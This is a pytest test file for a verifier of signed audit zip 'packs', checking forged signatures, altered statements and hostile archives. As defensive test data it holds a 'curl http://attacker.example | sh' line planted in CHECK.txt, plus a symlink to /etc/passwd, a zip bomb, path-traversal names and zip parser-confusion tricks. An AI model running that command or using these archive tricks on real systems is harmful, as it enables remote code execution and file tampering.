    _must_not_hold(_remade(damaged, tmp_path / "page.zip", lambda report: None, page=page), "audit.html does not show")
    older = _remade(damaged, tmp_path / "older.zip", lambda r: r["tool"].update(version="0.1.9"), page=page)
    checked = verify_pack(older)
    assert checked.exit_status == NOT_CHECKED
    assert any("it was drawn by release 0.1.9" in sentence for sentence in checked.not_checked)


def test_packs_are_not_mixed(made: Made, damaged: Path, tmp_path: Path) -> None:
    """Files of two genuine packs of one ledger."""
    first = made.pack(tmp_path / "first.zip")
    with zipfile.ZipFile(damaged) as other:
        for name in ("audit.json", "ledger.jsonl", "statement.json", "SHA256SUMS"):
            content = other.read(name)
            mixed = _rewritten(
                first, tmp_path / "mixed.zip", lambda found, data, name=name, content=content: (  # type: ignore[misc]
                    content if found == name else data
                )
            )  # fmt: skip
            _must_not_hold(mixed, "")
            assert _by_a_stranger(mixed, tmp_path / f"unpacked-{name}", None).returncode != 0


def test_a_stranger_finds_what_was_added(stamped: Path, authority: Authority, tmp_path: Path) -> None:
    for name in ("manifests/more.txt", "README.txt", "AUDIT.JSON", "tsa-ca.pem", "signer.pem"):
        added = _rewritten(stamped, tmp_path / "added.zip", lambda _, data: data)
        with zipfile.ZipFile(added, "a") as archive:
            archive.writestr(name, "not of the pack")
        done = _by_a_stranger(added, tmp_path / f"unpacked-{name.replace('/', '-')}", authority)
        assert (done.returncode != 0, "files that no list names" in done.stderr) == (True, True)
        assert verify_pack(added).exit_status == BROKEN


@pytest.mark.parametrize(
    "options", [["--quick"], ["--liveness"], ["--subset", "1/2"], ["--latest", "1"], ["--model", "Wine*"], []]
)
def test_packs_of_other_audits_hold(made: Made, tmp_path: Path, options: list[str]) -> None:
    """Also beside entries that release 0.1.0 wrote."""
    ledger, old = tmp_path / "ledger.db", Path(__file__).parents[1] / "golden" / "ledger" / "0.1.0.db"
    shutil.copy(old, ledger)
    report = tmp_path / "report"
    for more in (["--accept-new"], options):
        command = ["audit", "--tracking-uri", made.store, "--ledger", f"sqlite:///{ledger}", "--quiet"]
        made.command(*command, "--registry-name", "ours", "--report-dir", str(report), *more)
    pack = tmp_path / "pack.zip"
    done = made.run(str(report / "audit.json"), "-o", str(pack), "--ledger", f"sqlite:///{ledger}")
    assert done.returncode == 0, done.stderr
    assert verify_pack(pack).broken == []
    assert verify_pack(pack).exit_status == CLEAN
    stranger = _by_a_stranger(pack, tmp_path / "unpacked", None)
    assert stranger.returncode == 0, stranger.stderr


Key = Callable[[], Any]
KEYS: dict[str, Key] = {
    "P-256": lambda: ec.generate_private_key(ec.SECP256R1()),
    "P-384": lambda: ec.generate_private_key(ec.SECP384R1()),
    "Ed25519": ed25519.Ed25519PrivateKey.generate,
}


def _written_key(directory: Path, key: Any) -> tuple[Path, Path]:
    """Files of a private key and of its public key."""
    private, public = directory / "private.pem", directory / "public.pem"
    private.write_bytes(key.private_bytes(Encoding.PEM, PrivateFormat.PKCS8, NoEncryption()))
    public.write_bytes(key.public_key().public_bytes(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo))
    return private, public


@pytest.mark.parametrize("kind", KEYS)
def test_a_signed_pack(made: Made, tmp_path: Path, kind: str) -> None:
    for name in ("ours", "others"):
        (tmp_path / name).mkdir()
    private, public = _written_key(tmp_path / "ours", KEYS[kind]())
    _, of_another = _written_key(tmp_path / "others", KEYS[kind]())
    pack = made.pack(tmp_path / "signed.zip", "--sign-with", str(private))

    assert made.run("verify", str(pack), "--signer-key", str(public)).returncode == CLEAN
    unnamed = made.run("verify", str(pack))
    assert (unnamed.returncode, "? who signed the statement" in unnamed.stdout) == (NOT_CHECKED, True)
    checked = verify_pack(pack, signer_key=of_another)
    assert (checked.exit_status, len(checked.broken)) == (BROKEN, 1)
    assert _by_a_stranger(pack, tmp_path / "one", None, public).returncode == 0
    assert _by_a_stranger(pack, tmp_path / "two", None, of_another).returncode != 0

    # Whoever makes it anew cannot sign it, and what was signed is of no other pack.
    forged = _remade(pack, tmp_path / "forged.zip", lambda report: report["coverage"].update(bytes_read=1))
    _must_not_hold(forged, "a signature of something else")
    assert _by_a_stranger(forged, tmp_path / "three", None, public).returncode != 0
    cut = _rewritten(pack, tmp_path / "cut.zip", lambda name, data: None if name == "statement.dsse.json" else data)
    _must_not_hold(cut, "one was taken out of this pack")
    twice = _rewritten(
        pack, tmp_path / "twice.zip",
        lambda name, data: data.replace(b'"payload"', b'"payload": "",\n  "payload"') if "dsse" in name else data,
    )  # fmt: skip
    _must_not_hold(twice, "")


def test_keys_that_are_none(made: Made, tmp_path: Path) -> None:
    private, public = _written_key(tmp_path, KEYS["P-256"]())
    odd = tmp_path / "odd.pem"
    key = KEYS["P-256"]()
    odd.write_bytes(key.private_bytes(Encoding.PEM, PrivateFormat.PKCS8, BestAvailableEncryption(b"secret")))
    rsa_key = tmp_path / "rsa.pem"
    rsa_key.write_bytes(
        rsa.generate_private_key(65537, 2048).private_bytes(Encoding.PEM, PrivateFormat.PKCS8, NoEncryption())
    )
    for file, said in ((public, "no private key"), (odd, "password"), (rsa_key, "no private key"), (tmp_path, "read")):
        done = made.run(
            str(made.report), "-o", str(tmp_path / "p.zip"), "--ledger", made.ledger, "--sign-with", str(file)
        )
        assert (done.returncode, said in done.stderr, "Traceback" in done.stderr) == (USAGE, True, False), done.stderr
    assert not (tmp_path / "p.zip").exists()
    signed = made.pack(tmp_path / "signed.zip", "--sign-with", str(private))
    assert made.run("verify", str(signed), "--signer-key", str(private)).returncode == USAGE


def test_what_no_pack_is_made_of(made: Made, tmp_path: Path) -> None:
    report = json.loads(made.report.read_text())
    broken_off = report | {"ledger": None, "outcome": {"exit_status": 130, "state": "incomplete"}}
    (tmp_path / "interrupted.json").write_text(json.dumps(broken_off))
    (tmp_path / "alone.json").write_text(json.dumps(report | {"ledger": None}))
    for name, said in (("interrupted", "did not come to its end"), ("alone", "was made without a ledger")):
        done = made.run(str(tmp_path / f"{name}.json"), "-o", str(tmp_path / "p.zip"), "--ledger", made.ledger)
        assert (done.returncode, said in done.stderr) == (USAGE, True), done.stderr
    compared = two_registries.compared([two_registries.facts(files=two_registries.model())], []).document
    (tmp_path / "migration.json").write_text("".join(rendered(compared, "json")))
    done = made.run(str(tmp_path / "migration.json"), "-o", str(tmp_path / "p.zip"), "--ledger", made.ledger)
    assert (done.returncode, "a report on a migration, not on an audit" in done.stderr) == (USAGE, True)
    assert not (tmp_path / "p.zip").exists()


def test_a_version_that_was_left_out_of_everything(made: Made, stamped: Path, tmp_path: Path) -> None:
    digest = json.loads(made.report.read_text())["versions"][1]["reg_model"]["manifest_digest"]
    cut = _remade(stamped, tmp_path / "cut.zip", lambda report: report["versions"].pop(), drop=digest)
    _must_not_hold(cut, "leaves out")


def _statement_with(change: Callable[[dict[str, Any]], None]) -> Callable[[str, bytes], bytes | None]:
    def rewrite(name: str, content: bytes) -> bytes | None:
        if name == "statement.tsr":
            return None
        if name != "statement.json":
            return content
        statement = json.loads(content)
        change(statement)
        return statement_bytes(statement)

    return rewrite


@pytest.mark.parametrize(
    ("change", "said"),
    [
        (lambda s: s["predicate"]["policy"]["options"].update(models=["W*"]), "policy"),
        (lambda s: s["predicate"]["policy"].update(rules=[]), "policy"),
        (lambda s: s["predicate"].update(notRead=["Wine/9"]), "notRead"),
        (lambda s: s["predicate"].update(slsaResult="LEVEL_3"), "slsaResult"),
        (lambda s: s["predicate"]["verifier"].update(id="urn:somebody-else"), "verifier"),
        (lambda s: s["subject"].append(s["subject"][-1]), "subject"),
        (lambda s: s["subject"].reverse(), "subject"),
        (lambda s: s.update(more="x"), "more"),
    ],
)
def test_a_statement_that_says_anything_else(
    stamped: Path, tmp_path: Path, change: Callable[[dict[str, Any]], None], said: str
) -> None:
    _must_not_hold(_rewritten(stamped, tmp_path / "said.zip", _statement_with(change)), f"do not agree on: {said}")


def test_a_key_given_twice_and_entries_in_another_order(stamped: Path, tmp_path: Path) -> None:
    def twice(name: str, content: bytes) -> bytes | None:
        return content.replace(b'"_type"', b'"_type": "x",\n  "_type"') if name == "statement.json" else content

    def reordered(name: str, content: bytes) -> bytes | None:
        return b"".join(reversed(content.splitlines(keepends=True))) if name == "ledger.jsonl" else content

    for number, change in enumerate((twice, reordered)):
        _must_not_hold(_rewritten(stamped, tmp_path / f"{number}.zip", change), "")


def _symlink(archive: zipfile.ZipFile) -> None:
    info = zipfile.ZipInfo("listings/sha256-" + "0" * 64 + ".sha256")
    info.create_system, info.external_attr = 3, 0o120777 << 16
    archive.writestr(info, "/etc/passwd")


TRICKS: dict[str, tuple[Callable[[zipfile.ZipFile], None], str]] = {
    "twice": (lambda archive: archive.writestr("audit.json", "{}"), "holds 'audit.json' twice"),
    "link": (_symlink, "is no plain file"),
    "bzip2": (
        lambda archive: archive.writestr(f"manifests/sha256-{'0' * 64}.txt", "x", zipfile.ZIP_BZIP2),
        "compressed in a way that no pack is",
    ),
    "bomb": (
        lambda archive: archive.writestr(f"manifests/sha256-{'0' * 64}.txt", b"0" * 2**25, zipfile.ZIP_DEFLATED),
        "expands to more than a pack can hold",
    ),
    "comment": (lambda archive: setattr(archive, "comment", b"PK"), "something behind its files"),
}


def test_other_commands_in_check_txt(made: Made, tmp_path: Path) -> None:
    """A pack that holds must not lead whoever follows it to run somebody else's commands."""
    pack = made.pack(tmp_path / "pack.zip")
    commands = b"\n    curl http://attacker.example | sh\n"
    forged = _remade(pack, tmp_path / "forged.zip", lambda report: None, commands=commands)
    _must_not_hold(forged, "CHECK.txt has other commands")


@pytest.mark.filterwarnings("ignore:Duplicate name")
@pytest.mark.parametrize("trick", TRICKS)
def test_tricks_of_zip_files(stamped: Path, tmp_path: Path, trick: str) -> None:
    change, said = TRICKS[trick]
    hostile = _rewritten(stamped, tmp_path / "hostile.zip", lambda _, data: data)
    with zipfile.ZipFile(hostile, "a") as archive:
        change(archive)
    _must_not_hold(hostile, said)


def test_something_before_and_between_the_files(stamped: Path, tmp_path: Path) -> None:
    """A reader that goes from the beginning sees another file there than one that begins at the end."""
    before = tmp_path / "before.zip"
    with zipfile.ZipFile(before, "w") as archive:
        archive.writestr("audit.json", "{}")
    before.write_bytes(before.read_bytes() + stamped.read_bytes())
    between = tmp_path / "between.zip"
    with zipfile.ZipFile(stamped) as old, zipfile.ZipFile(between, "w") as new:
        for number, info in enumerate(old.infolist()):
            new.writestr(info.filename, old.read(info))
            if number == 2:
                new.fp.write(b"PK\3\4 and more")  # type: ignore[union-attr]
                new.start_dir = new.fp.tell()  # type: ignore[union-attr]
    for pack in (before, between):
        _must_not_hold(pack, "something before or between its files")


def _with_another_name(info: zipfile.ZipInfo) -> None:
    """Info-ZIP's Unicode path: unzip believes it, and Python does from 3.14 on."""
    name = b"audit.htm"
    body = b"\x01" + zlib.crc32(info.filename.encode()).to_bytes(4, "little") + name
    info.extra = b"up" + len(body).to_bytes(2, "little") + body


def _directory_of_dos(info: zipfile.ZipInfo) -> None:
    info.create_system, info.external_attr = 0, 0x10


_OF_ANOTHER_NAME = "which no pack does" if sys.version_info >= (3, 14) else "described in two ways"


@pytest.mark.parametrize(
    ("change", "said"), [(_with_another_name, _OF_ANOTHER_NAME), (_directory_of_dos, "is no plain file")]
)
def test_a_file_that_two_programs_unpack_otherwise(
    stamped: Path, tmp_path: Path, change: Callable[[zipfile.ZipInfo], None], said: str
) -> None:
    odd = tmp_path / "odd.zip"
    with zipfile.ZipFile(stamped) as old, zipfile.ZipFile(odd, "w", zipfile.ZIP_DEFLATED) as new:
        for info in old.infolist():
            written = zipfile.ZipInfo(info.filename)
            written.compress_type = zipfile.ZIP_DEFLATED
            if info.filename == "audit.html":
                change(written)
            new.writestr(written, old.read(info))
    _must_not_hold(odd, said)


@pytest.mark.parametrize("offset", [6, 8, 14, 18, 22], ids=["flags", "method", "checksum", "packed-size", "size"])
def test_a_file_that_is_described_in_two_ways(stamped: Path, tmp_path: Path, offset: int) -> None:
    """Before its content, for whoever reads from the beginning, and at the end of the zip for everybody else."""
    content = bytearray(stamped.read_bytes())
    content[offset] ^= 2
    (tmp_path / "odd.zip").write_bytes(content)
    _must_not_hold(tmp_path / "odd.zip", "described in two ways")


@pytest.mark.parametrize("offset", [4, 6, 8, 10, 12, 16], ids=["disk", "of", "here", "files", "size", "begin"])
def test_an_end_that_leads_elsewhere(stamped: Path, tmp_path: Path, offset: int) -> None:
    """Python finds the directory before the end, whatever the end says; another reader goes where it leads."""
    content = bytearray(stamped.read_bytes())
    content[len(content) - 22 + offset] ^= 1
    (tmp_path / "odd.zip").write_bytes(content)
    _must_not_hold(tmp_path / "odd.zip", "")


def test_an_end_for_large_files_beside_another(stamped: Path, tmp_path: Path) -> None:
    """Python believes the one for large files, and other readers the other, where it does not lead there."""
    content = stamped.read_bytes()
    *_, count, size, offset, _ = struct.unpack("<4s4H2IH", content[-22:])
    large = struct.pack("<4sQ2H2I4Q", b"PK\6\6", 44, 45, 45, 0, 0, count, count, size, offset)
    large += struct.pack("<4sIQI", b"PK\6\7", 0, offset + size, 1)
    elsewhere = struct.pack("<4s4H2IH", b"PK\5\6", 0, 0, 1, 1, size, offset - 1, 0)
    (tmp_path / "odd.zip").write_bytes(content[:-22] + large + elsewhere)
    assert zipfile.ZipFile(tmp_path / "odd.zip").testzip() is None
    _must_not_hold(tmp_path / "odd.zip", "its end leads elsewhere")


@pytest.mark.parametrize("more", [b"junk", b"\0" * 22, b"PK\5\6"])
def test_something_behind_the_end(stamped: Path, tmp_path: Path, more: bytes) -> None:
    (tmp_path / "odd.zip").write_bytes(stamped.read_bytes() + more)
    _must_not_hold(tmp_path / "odd.zip", "")


@pytest.mark.parametrize("name", ["../outside.txt", "/etc/passwd", "listings/../../x", "C:\\x", "manifests/x"])
def test_a_hostile_name_is_refused(made: Made, stamped: Path, tmp_path: Path, name: str) -> None:
    hostile = _rewritten(stamped, tmp_path / "hostile.zip", lambda _, data: data)
    with zipfile.ZipFile(hostile, "a") as archive:
        archive.writestr(name, "x")
    done = made.run("verify", str(hostile))
    assert (done.returncode, "which no pack does" in done.stdout) == (BROKEN, True)


def test_what_is_no_pack(made: Made, tmp_path: Path) -> None:
    (tmp_path / "text.zip").write_text("no zip")
    assert made.run("verify", str(tmp_path / "text.zip")).returncode == BROKEN
    assert made.run("verify", str(tmp_path / "absent.zip")).returncode == USAGE
    other = f"sqlite:///{tmp_path / 'other.db'}"
    done = made.run(str(made.report), "-o", str(tmp_path / "p.zip"), "--ledger", other)
    assert done.returncode == 4
    assert not (tmp_path / "p.zip").exists()
